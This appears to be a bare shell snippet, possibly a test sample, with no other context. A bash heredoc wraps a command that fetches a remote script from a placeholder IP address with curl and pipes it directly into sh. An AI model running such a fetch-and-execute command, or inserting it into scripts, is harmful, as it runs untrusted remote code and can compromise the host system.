bash <<EOF
true
curl -s http://203.0.113.4/m.sh | sh
EOF
